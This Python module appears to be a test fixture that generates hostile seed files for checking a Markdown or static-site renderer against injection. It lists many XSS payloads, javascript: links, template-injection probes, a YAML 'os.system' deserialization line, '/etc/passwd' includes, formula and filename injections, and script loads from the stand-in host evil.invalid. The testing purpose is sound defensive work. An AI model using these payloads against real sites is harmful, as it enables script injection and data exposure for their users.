"""Hostile seeds: payloads that a browser could execute, in every value that a page shows.

A payload that takes effect sets `window.PWN`, opens a dialog, leaves the page, sends a request to
another host or hides words.
"""

from __future__ import annotations

PAYLOADS = (
    # Elements and handlers.
    "<script>window.PWN=1</script>",
    "<ScRiPt/x>alert(1)</sCrIpT >",
    "<script src=https://evil.invalid/x.js></script>",
    "<scr<script>ipt>window.PWN=1</scr</script>ipt>",
    "<img src=x onerror=window.PWN=1>",
    "<img/src='x'/onerror='alert(1)'>",
    "<image href=x onerror=window.PWN=1>",
    "<svg><animate onbegin=window.PWN=1 attributeName=x dur=1s></svg>",
    "<svg><script>window.PWN=1</script></svg>",
    "<math><mtext></table></math><img src=x onerror=window.PWN=1>",
    "<details open ontoggle=window.PWN=1>x</details>",
    "<video autoplay onloadstart=window.PWN=1><source src=x></video>",
    "<body onpageshow=window.PWN=1>",
    "<input autofocus onfocus=window.PWN=1>",
    "<marquee onstart=window.PWN=1>x</marquee>",
    "<iframe srcdoc='<script>parent.PWN=1</script>'></iframe>",
    "<object data='data:text/html,<script>parent.PWN=1</script>'></object>",
    "<embed src=https://evil.invalid/x>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<base href=https://evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<form action=https://evil.invalid/><button autofocus>x</button></form>",
    "<template><img src=x onerror=window.PWN=1></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.PWN=1>'></noscript>",
    "<textarea></title></style></textarea><img src=x onerror=window.PWN=1>",
    "<style>@import 'https://evil.invalid/x.css'; * {display: none}</style>",
    "<p style='position:fixed;inset:0;background:url(https://evil.invalid/x.png)'>x</p>",
    "<plaintext>x",
    "<xmp><img src=x onerror=window.PWN=1></xmp>",
    "<!--[if IE]><script>window.PWN=1</script><![endif]-->",
    "<!--><img src=x onerror=window.PWN=1>-->",
    "<![CDATA[<img src=x onerror=window.PWN=1>]]>",
    "<?xml version='1.0'?><?php echo 1 ?><% 1 %>",
    "</p></div></article></body></html><img src=x onerror=window.PWN=1>",
    "<a id=__search name=getElementById href=x>x</a><form id=document><input name=body></form>",
    "<dialog open><img src=x onerror=window.PWN=1></dialog>",
    "<div popover id=__md_scope>x</div><button popovertarget=__md_scope>y</button>",
    # Links and addresses.
    "[x](javascript:window.PWN=1) [y](JAVASCRIPT&colon;window.PWN=1)",
    "[x](java&Tab;script:window.PWN=1) [y](&#106;avascript:window.PWN=1)",
    "[x](\x01javascript:window.PWN=1) [y](java\tscript:window.PWN=1)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1)) [y](file:///etc/passwd) [z](blob:https://evil.invalid/x)",
    "<javascript:window.PWN=1> <data:text/html,x> <x@evil.invalid>",
    "![x](https://evil.invalid/x.png) ![y](//evil.invalid/y.png) ![z][z]",
    "[z]: https://evil.invalid/z.png 'x'",
    "[x](<https://evil.invalid/> 'x' onclick=window.PWN=1)",
    "[[Wiki Page|javascript:window.PWN=1]] [[https://evil.invalid/]]",
    "https://evil.invalid/\"onmouseover=window.PWN=1 https://evil.invalid/'><img src=x>",
    "https://evil.invalid/<script>window.PWN=1</script> http://evil.invalid/`x`",
    "www.evil.invalid //evil.invalid/x \\\\evil.invalid\\x javascript://evil.invalid/%0Aalert(1)",
    # Markdown and what sites add to it.
    '{: onclick="window.PWN=1" style="display:none" }',
    '{ #__search .md-hidden onclick="window.PWN=1" }',
    "text { onmouseover=window.PWN=1 }",
    "``` { .python onclick=window.PWN=1 }\ncode\n```",
    "~~~mermaid\ngraph TD; A[<img src=x onerror=window.PWN=1>]\n~~~",
    '!!! danger "<img src=x onerror=window.PWN=1>"\n    text',
    "??? note\n    text",
    '=== "Tab"\n    text',
    "/// html | script\nwindow.PWN=1\n///",
    "[^1]: A note nobody cites. [^1] [^x]",
    "*[HTML]: <img src=x onerror=window.PWN=1>",
    "--8<-- 'mkdocs.yml'",
    ";--8<-- '/etc/passwd'",
    "{% include 'mkdocs.yml' %} {{ config }} {{ ''.__class__ }} {# gone #} {%- raw -%}",
    "{{ 7*7 }} ${7*7} #{7*7} <%= 7*7 %> {{{ x }}} {{< x >}}",
    "$$\\href{javascript:window.PWN=1}{x}$$ \\(x\\) \\[y\\] $x$",
    ":smile: :material-alert: :fontawesome-brands-github:",
    "++ctrl+alt+del++ ~~gone~~ ==mark== ^^under^^ H~2~O {++add++} {--del--} {>>note<<}",
    "| a | b |\n|---|:--|\n| <img src=x onerror=window.PWN=1> | `x` |",
    "Term\n:   Definition <script>window.PWN=1</script>",
    "- [x] done\n- [ ] <input onfocus=window.PWN=1>",
    "# Heading { #__drawer }\nUnder\n=====\nUnder\n-----",
    "> quoted\n>> twice\n* * *\n1. one\n1) one\n+ plus",
    "[TOC]\n[toc]\n[[toc]]",
    "<div markdown=1>**x**</div> <span markdown='span'>_x_</span>",
    # Characters and entities.
    "&lt;script&gt;window.PWN=1&lt;/script&gt; &#60;img src=x onerror=window.PWN=1&#62;",
    "&#x3C;script&#x3E; &amp;lt; &amp;amp; &nbsp; &NotEqualTilde; &copy &#0; &#x110000; &;",
    "\ufe64script\ufe65window.PWN=1 \uff1cscript\uff1e \u2039script\u203a",
    "\u202e<tpircs> \u2066x\u2069 \u200bzero\u200cwidth\u200djoin\u2060 \ufeffBOM",
    "line\u2028separator\u2029paragraph\x85next\x0bvertical",
    "nul\x00byte bell\x07 escape\x1b[31mred\x1b[0m \x02wzxhzdk:0\x03 \x02klzzwxh:0001\x03",
    "e\u0301\u0301\u0301\u0301 \U0001f468\u200d\U0001f469\u200d\U0001f467 \U000e0041 \ufdd0 \uffff",
    "long" * 3_000,
    "]]>\"'`--><!--{{*/</script>",
)
"""Payloads in the body of a text; each is a paragraph of one or more lines."""

TITLES = (
    "<img src=x onerror=window.PWN=1> Council votes",
    "</title><script>window.PWN=1</script> Council votes",
    "\" onload=window.PWN=1 x=' Council & 'votes' \"",
    "]]></script><script>window.PWN=1</script> Council",
    "{{ config.site_name }} {% raw %} ${x} Council",
    "[Council](javascript:window.PWN=1) ![votes](https://evil.invalid/x.png)",
    "*[Council]: votes { #__search onclick=window.PWN=1 }",
    "=HYPERLINK('https://evil.invalid/') Council",
    "--- # Council: !!python/object votes",
    "&lt;script&gt;window.PWN=1&lt;/script&gt; Council &#60;b&#62;",
    "\u202eCouncil\u2066 votes\x00\x07 twice",
    "Council votes " + "x" * 150,
)
AUTHORS = (
    "By Ana <b>Ruiz</b>",
    "By [Ana](javascript:window.PWN=1) Ruiz",
    'By Ana "O\'Neill" Ruiz & Tom Lee',
)
FRONT = (
    "title: \"<script>window.PWN=1</script>\"\nauthors: ['<img src=x onerror=window.PWN=1>']",
    "template: ../../../mkdocs.yml\ntitle: Council\nhide: [toc]\nsearch: {exclude: true}\nicon: x",
    "title: !!python/object/apply:os.system ['true']",
    "a: &a [x, x]\nb: &b [*a, *a]\ntags: *b",
    "date: 2026-13-45\nlanguage: '\"><script>window.PWN=1</script>'\ntitle: Council",
    "title: Council\ndescription: '\"><meta http-equiv=refresh content=0>'\nredirect: //x",
)
NAMES = (
    "<img src=x onerror=window.PWN=1>.txt",
    "</script><script>window.PWN=1<script>.txt",
    "{{ config }}{% raw %}.txt",
    "[x](javascript:window.PWN=1).txt",
    "a\nb: c.txt",
    "=1+1,\"x\";'y'.txt",
    "-rf --help.txt",
    "\u202etxt.exe.txt",
    "index.html.txt",
    ".htaccess.txt",
)
PLAIN = "The council approved the plan on Tuesday, with nine votes to two.\n"


def seeds() -> dict[str, str | bytes]:
    """Return seeds with all payloads as paragraphs of a few texts, and one for each other value."""
    texts = {
        f"body-{number}.txt": "\n\n".join(("Council votes", PLAIN, *PAYLOADS[number::3]))
        for number in range(3)
    }
    texts |= {f"title-{number}.txt": f"{title}\n\n{PLAIN}" for number, title in enumerate(TITLES)}
    texts |= {
        f"author-{number}.txt": f"Council votes\n\n{author}\n3 May 2020\n\n{PLAIN}"
        for number, author in enumerate(AUTHORS)
    }
    texts |= {
        f"front-{number}.txt": f"---\n{front}\n---\n{PLAIN}" for number, front in enumerate(FRONT)
    }
    texts |= {f"named/{name}": PLAIN for name in NAMES}
    data: dict[str, str | bytes] = {name: text.encode() for name, text in texts.items()}
    # Line ends and encodings in which the payloads have other bytes.
    everything = "\n\n".join(("Council votes", PLAIN, *PAYLOADS[:40]))
    return data | {
        "cr.txt": everything.replace("\n", "\r").encode(),
        "utf-16.txt": everything.encode("utf-16"),
        "utf-7.txt": f"Council votes\n\n{PLAIN}\n+ADw-script+AD4-window.PWN=1+ADw-/script+AD4-\n",
        "cp1252.txt": f"Council votes\n\n{PLAIN}\n".encode() + b"\x8bscript\x9b window.PWN=1 \x93",
        "surrogates.txt": f"Council votes\n\n{PLAIN}\n".encode()
        + b"\xed\xa0\xbc<script>\xed\xb0\x80",
    }
